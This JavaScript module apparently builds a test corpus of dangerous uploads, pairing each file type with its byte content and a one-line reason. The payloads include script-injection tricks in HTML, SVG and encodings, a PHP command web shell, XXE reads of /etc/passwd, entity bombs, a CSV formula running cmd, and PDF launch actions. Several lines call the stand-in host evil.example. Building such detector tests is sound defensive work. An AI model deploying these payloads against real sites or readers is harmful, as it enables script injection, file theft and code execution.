// What browsers take for pages, or run beside one.
import { deflateSync, gzipSync } from 'node:zlib';

import { hex, join, latin1, u32le, utf16be } from './bytes.mjs';
import { alert, page, row, script } from './row.mjs';

const html = (name, bytes, why, more) =>
    row(name, 'html', bytes, why, { claimed: 'text/html', filename: 'x.html', ...more });
const text = (name, bytes, why, more) => row(name, 'text', bytes, why, more);

const pages = [
    html('html', page, 'a page that runs a script in the origin that it comes from'),
    html('html without a doctype', script, 'browsers guess it from its first tag'),
    html('html in capitals', '<SCRIPT>alert(1)</SCRIPT>', 'tags are found in any case'),
    html('html after white space', `\n\t \r\n\f${page}`, 'white space before the first tag is skipped'),
    html('html after 1 KiB of text', `${'words '.repeat(180)}${page}`, 'guessing looks further than some checks do'),
    html('html after a comment', `<!-- ${'x'.repeat(2000)} -->${page}`, 'a comment is a page too'),
    html('html after an xml declaration', `<?xml version="1.0"?>${page}`, 'looks like XML at first'),
    html('html of a frame', `<iframe srcdoc="${script.replaceAll('"', '')}"></iframe>`, 'a page in an attribute'),
    html('html of an image that fails', `<img src=x onerror=${alert}>`, 'needs no script tag'),
    html('html of a body', `<body onload=${alert}>`, 'an event is a script'),
    html('html that refreshes', `<meta http-equiv=refresh content="0;url=javascript:${alert}">`, 'goes elsewhere by itself'),
    html('html of a link', `<a href="javascript:${alert}">here</a>`, 'runs when somebody follows it'),
    html('html with a base', '<base href="//evil.example/"><script src=x.js></script>', 'takes its scripts from elsewhere'),
    html('html of a sign-in', '<form action="//evil.example"><input name=password></form>', 'asks for passwords in our name'),
    html('html with a charset of its own', `<meta charset=utf-7>+ADw-script+AD4-${alert}+ADw-/script+AD4-`, 'tags that no filter sees'),
    html('html in ISO-2022-JP', join('<a title="\x1b$B">', hex('1b284a'), `" onfocus=${alert} autofocus>`), 'escapes hide where an attribute ends'),
    html('html with php', `<?php system($_GET['c']); ?>${page}`, 'runs where files are served by PHP'),
    row('html after a byte order mark', 'html', join(hex('efbbbf'), page), 'the mark is no text'),
    row('html after NUL', 'data', join(hex('00'), page), 'old browsers drop it'),
    row('html in UTF-16 with a mark', 'utf16', join(hex('fffe'), Buffer.from(page, 'utf16le')), 'the same tags in other bytes'),
    row('html in UTF-16, most first', 'utf16', join(hex('feff'), utf16be(page)), 'the same tags in other bytes'),
    row('html in UTF-16 without a mark', 'data', Buffer.from(page, 'utf16le'), 'guessed by some'),
    text('html in UTF-7', `+ADw-script+AD4-${alert}+ADw-/script+AD4-`, 'no tag is in it for a filter to see'),
];

const xmlHead = '<?xml version="1.0"?>';
const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>';
const outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script>${alert}</script></html>`;
const xsl =
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
    `${xhtml}</xsl:template></xsl:stylesheet>`;
const xml = (name, bytes, why, filename = 'x.xml') =>
    row(name, 'xml', bytes, why, { claimed: 'application/xml', filename });

const markup = [
    xml('xhtml', `${xmlHead}<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">${xhtml}`, 'a page in XML', 'x.xhtml'),
    xml('xhtml by its namespace alone', `${xmlHead}<x><a xmlns="http://www.w3.org/1999/xhtml" href="javascript:${alert}">x</a></x>`, 'any XML may hold a page'),
    xml('xml with a stylesheet', `${xmlHead}<?xml-stylesheet type="text/xsl" href="#x"?><x>${xsl}</x>`, 'turns itself into a page'),
    xml('xsl', `${xmlHead}${xsl}`, 'makes a page of other XML', 'x.xsl'),
    xml('xml with an entity from outside', `${xmlHead}${outside}<x>&e;</x>`, 'makes a careless parser read files'),
    xml('xml that laughs', `${xmlHead}${laughs}<x>&c;</x>`, 'grows in a parser'),
    xml('rss', `${xmlHead}<rss version="2.0"><channel><description>${script}</description></channel></rss>`, 'readers show what is in it'),
    xml('mathml', `${xmlHead}<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${alert}"><mi>x</mi></math>`, 'a formula may be a link'),
    xml('xul', `${xmlHead}<window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul"/>`, 'once a page of its own', 'x.xul'),
    xml('policy of flash', '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>', 'opens the origin to others', 'crossdomain.xml'),
    xml('scriptlet', `${xmlHead}<scriptlet><script>${alert}</script></scriptlet>`, 'a program of Windows', 'x.sct'),
];

const svg = (name, bytes, why, more) =>
    row(name, 'svg', bytes, why, { claimed: 'image/svg+xml', filename: 'x.svg', ...more });
const drawing = (inside, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inside}</svg>`;

const drawings = [
    svg('svg with a script', drawing(`<script>${alert}</script>`), 'a picture that is a page'),
    svg('svg with an event', drawing('', `onload="${alert}"`), 'needs no script tag'),
    svg('svg with a page in it', drawing(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`), 'any page fits into it'),
    svg('svg that uses another', drawing('<use href="data:image/svg+xml,&lt;svg/>#x"/>'), 'brings in what is elsewhere'),
    svg('svg that moves a link', drawing(`<a><animate attributeName="href" values="javascript:${alert}"/><text>x</text></a>`), 'the link comes later'),
    svg('svg after a declaration', `${xmlHead}<!-- x -->${drawing(script)}`, 'begins as any XML'),
    svg('svg that laughs', `${xmlHead}${laughs}${drawing('&c;')}`, 'grows in a parser'),
    svg('svg with an entity from outside', `${xmlHead}${outside}${drawing('<text>&e;</text>')}`, 'reads files for whoever makes a preview'),
    svg('svg of endless size', drawing('<rect width="1e9" height="1e9"/>', 'width="1e9" height="1e9"'), 'a bomb for whoever paints it'),
    row('svg in gzip', 'gzip', gzipSync(drawing(`<script>${alert}</script>`)), 'a script that is packed', { claimed: 'image/svg+xml', filename: 'x.svgz' }),
    row('svg in UTF-16', 'utf16', join(hex('fffe'), Buffer.from(drawing(script), 'utf16le')), 'the same tags in other bytes', { claimed: 'image/svg+xml', filename: 'x.svg' }),
];

const javascript = (name, bytes, why, more) =>
    text(name, bytes, why, { claimed: 'text/javascript', filename: 'x.js', ...more });

const scripts = [
    javascript('javascript', `/* x */ ${alert};`, 'a page that may load scripts from here loads this'),
    javascript('a service worker', "self.addEventListener('fetch', (e) => e.respondWith(new Response('x')));", 'takes over an origin for good', { filename: 'sw.js' }),
    javascript('javascript with a first line', `#!/usr/bin/env node\n${alert};`, 'is known by its first line'),
    javascript('a module', `export default ${alert};\nimport 'https://evil.example/x.js';`, 'brings in what is elsewhere', { filename: 'x.mjs' }),
    javascript('an answer for a callback', `callback({"x":1});${alert}`, 'is data and a script'),
    javascript('javascript after a function', `function x() {}\nvar y = function () {};\n${alert};`, 'what libmagic knows scripts by'),
    text('css', `@import "//evil.example/x.css"; a { background: url("javascript:${alert}") }`, 'styles read what is in a page', { claimed: 'text/css', filename: 'x.css' }),
    text('a manifest of a cache', 'CACHE MANIFEST\n/\nFALLBACK:\n/ /files/x\n', 'once kept a page for ever', { claimed: 'text/cache-manifest', filename: 'x.appcache' }),
    text('a manifest of an app', '{"start_url":"/","display":"standalone","name":"x"}', 'makes an app of an origin', { claimed: 'application/manifest+json', filename: 'manifest.json' }),
    row('wasm', 'wasm', hex('0061736d01000000'), 'a program for browsers', { claimed: 'application/wasm', filename: 'x.wasm' }),
    text('an hta', `<hta:application>${script.replace('document.domain', '1')}`, 'a page with the rights of a program', { claimed: 'application/hta', filename: 'x.hta' }),
    text('an htc', `<public:attach event="onload" onevent="${alert}"/>`, 'gives behaviour to a page', { claimed: 'text/x-component', filename: 'x.htc' }),
    text('mhtml', `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${page}\r\n--x--\r\n`, 'a page with all its parts', { claimed: 'message/rfc822', filename: 'x.mht' }),
    text('a letter', `From: a@b.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n${page}`, 'is shown as a page', { claimed: 'message/rfc822', filename: 'x.eml' }),
    text('markdown with a page', `# x\n\n${script}\n`, 'is made a page by whoever shows it', { claimed: 'text/markdown', filename: 'x.md' }),
    text('a table with a formula', '=cmd|\' /c calc\'!A1,"=HYPERLINK(""//evil.example"")"\n', 'runs in a program for tables', { claimed: 'text/csv', filename: 'x.csv' }),
    text('an invitation', `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nDESCRIPTION:${script}\r\nEND:VCALENDAR\r\n`, 'is opened by itself', { claimed: 'text/calendar', filename: 'x.ics' }),
];

const pdfOf = (action) =>
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ' +
    `${action} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`;
const pdf = { claimed: 'application/pdf', filename: 'x.pdf' };
const flash = { claimed: 'application/x-shockwave-flash', filename: 'x.swf' };
const film = join([8], u32le(21), hex('00 00 0c 01 00 44 11 00 00 00 40 00 00 00'));

const documents = [
    row('pdf with javascript', 'pdf', pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'runs in the reader', pdf),
    row('pdf that launches', 'pdf', pdfOf('<< /S /Launch /F (calc.exe) >>'), 'starts a program', pdf),
    row('pdf that sends', 'pdf', pdfOf('<< /S /SubmitForm /F (http://evil.example) >>'), 'tells that it was read', pdf),
    row('pdf after a page', 'html', `${page}${pdfOf('null')}`, 'readers find its head later', pdf),
    row('flash', 'swf', join('FWS', film), 'ran in the origin that it came from', flash),
    row('flash, packed', 'swf', join('CWS', film.subarray(0, 5), deflateSync(film.subarray(5))), 'the same, not to be looked into', flash),
    row('rtf with an object', 'rtf', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}}}', 'fetches a program when it is opened', { claimed: 'application/rtf', filename: 'x.rtf' }),
    row('postscript', 'postscript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n', 'a program that reads files', { claimed: 'application/postscript', filename: 'x.eps' }),
    row('a document of ole', 'ole', join(hex('d0cf11e0a1b11ae1'), Buffer.alloc(504)), 'holds macros', { claimed: 'application/msword', filename: 'x.doc' }),
    row('a help file', 'chm', join('ITSF', u32le(3), Buffer.alloc(88)), 'pages with the rights of a program', { filename: 'x.chm' }),
    row('html in Latin-1', 'html', latin1(`${page}\xe9`), 'is no UTF-8'),
];

export default [...pages, ...markup, ...drawings, ...scripts, ...documents];
